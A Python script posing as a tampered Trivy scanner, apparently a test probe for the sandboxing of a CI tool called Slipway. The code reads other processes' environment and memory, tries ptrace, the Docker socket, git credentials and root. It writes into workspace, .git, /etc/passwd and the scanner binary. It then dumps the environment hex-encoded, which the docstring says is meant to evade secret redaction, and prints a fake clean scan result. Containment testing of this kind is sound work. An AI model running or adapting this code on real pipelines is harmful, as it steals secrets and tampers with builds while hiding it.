#!/usr/bin/python3 -I
"""A Trivy that was tampered with: it looks for secrets and for ways out, and writes what it managed into its log.

Slipway takes known secrets out of a log, so the account is in Base64: one line, cut into pieces.
"""

import ctypes
import json
import os
import socket
import sys

managed, refused = {}, {}


def attempt(name, act):
    try:
        managed[name] = repr(act())[:2000]
    except Exception as error:  # noqa: BLE001 (whatever stops it)
        refused[name] = f"{type(error).__name__}: {error}"


def read(path):
    with open(path, "rb") as file:
        return file.read(2000)


def append(path):
    with open(path, "ab") as file:
        return file.write(b"stolen=1\n")


def create(folder):
    with open(os.path.join(folder, "hostile"), "xb") as file:
        return file.write(b"hostile")


def connect(path):
    with socket.socket(socket.AF_UNIX) as peer:
        peer.connect(path)
        peer.sendall(b"GET /info HTTP/1.0\r\n\r\n")
        return peer.recv(1000)


def memory(pid):
    with open(f"/proc/{pid}/maps") as maps:
        place = next(line for line in maps if "[stack]" in line).split()[0]
    start, end = (int(part, 16) for part in place.split("-"))
    with open(f"/proc/{pid}/mem", "rb", buffering=0) as file:
        file.seek(start)
        return len(file.read(end - start))


def trace(pid):
    libc = ctypes.CDLL(None, use_errno=True)
    if libc.ptrace(16, pid, 0, 0) != 0:  # PTRACE_ATTACH
        raise OSError(ctypes.get_errno(), "ptrace")


def below(folder):
    try:
        return [os.path.join(folder, name) for name in os.listdir(folder)]
    except OSError:
        return []


for pid in sorted((name for name in os.listdir("/proc") if name.isdigit()), key=int):
    if int(pid) != os.getpid() or pid == "1":
        attempt(f"/proc/{pid}/environ", lambda: read(f"/proc/{pid}/environ"))
        attempt(f"/proc/{pid}/mem", lambda: memory(pid))
        attempt(f"/proc/{pid}/fd", lambda: os.listdir(f"/proc/{pid}/fd"))
        attempt(f"/proc/{pid}/cwd", lambda: os.listdir(f"/proc/{pid}/cwd"))
        attempt(f"/proc/{pid}/root", lambda: os.listdir(f"/proc/{pid}/root"))
        attempt(f"ptrace {pid}", lambda: trace(int(pid)))
        attempt(f"signal {pid}", lambda: os.kill(int(pid), 0))
        for task in below(f"/proc/{pid}/task"):
            attempt(f"{task}/environ", lambda: read(f"{task}/environ"))

for path in ("/var/run/docker.sock", "/run/docker.sock"):
    attempt(f"connect {path}", lambda: connect(path))

for path in below("/github/file_commands"):
    attempt(f"append {path.rsplit('/', 1)[-1].rsplit('_', 1)[0]}", lambda: append(path))
for folder in (
    "/github/workspace", "/github/workspace/.git", "/github/workspace/.git/hooks", "/github/workspace/.slipway-cache",
    "/github/workspace/.slipway-cache/db", "/github/file_commands", "/github/home", "/github/workflow",
    "/github/runner_temp", "/etc", "/usr/local/bin",
):  # fmt: skip
    attempt(f"create in {folder}", lambda: create(folder))
for path in (
    "/github/workspace/app.py", "/github/workspace/.git/HEAD", "/github/workspace/.git/config",
    "/github/workspace/.slipway-cache/db/trivy.db", "/github/workflow/event.json",
    "/github/runner_temp/slipway-category-322f7ecbac93d98ce4e67b87d6fffddf.json", "/etc/passwd", "/usr/local/bin/trivy",
):  # fmt: skip
    attempt(f"append {path}", lambda: append(path))
attempt("delete app.py", lambda: os.rename("/github/workspace/app.py", "/github/workspace/gone.py"))

attempt("credentials in .git/config", lambda: read("/github/workspace/.git/config"))
for path in below("/github/runner_temp"):
    if "/git-credentials-" in path:
        attempt("credentials in RUNNER_TEMP", lambda: read(path))

attempt("become root", lambda: os.setuid(0))
attempt("become another group", lambda: os.setgroups([0]))

arguments = sys.argv
if "--cache-dir" in arguments:
    cache = arguments[arguments.index("--cache-dir") + 1]
    attempt("create in the given cache", lambda: create(cache))
    attempt("append the given database", lambda: append(os.path.join(cache, "db", "trivy.db")))
attempt("create in the working directory", lambda: create(os.getcwd()))

with open("/proc/self/status") as status:
    fields = dict(line.rstrip("\n").split(":\t", 1) for line in status if ":\t" in line)

writable = []
for folder, folders, _ in os.walk("/"):
    folders[:] = [name for name in folders if os.path.join(folder, name) not in ("/proc", "/sys")]
    if os.access(folder, os.W_OK):
        writable.append(folder)
        folders.clear()

open_files = []
for number in os.listdir("/proc/self/fd"):
    try:
        open_files.append(f"{number} {os.readlink(f'/proc/self/fd/{number}')}")
    except OSError:
        pass  # The listing's own.

account = {
    "managed": managed,
    "refused": refused,
    "environment": dict(os.environ),
    "arguments": arguments,
    "status": fields,
    "writable": writable,
    "home": os.environ.get("HOME", ""),
    "open": open_files,
}
text = json.dumps(account).encode().hex()
for start in range(0, len(text), 8000):
    print("ACCOUNT", text[start : start + 8000], file=sys.stderr)
print('{"SchemaVersion": 2, "Trivy": {"Version": "0.76.0"}, "Results": []}')
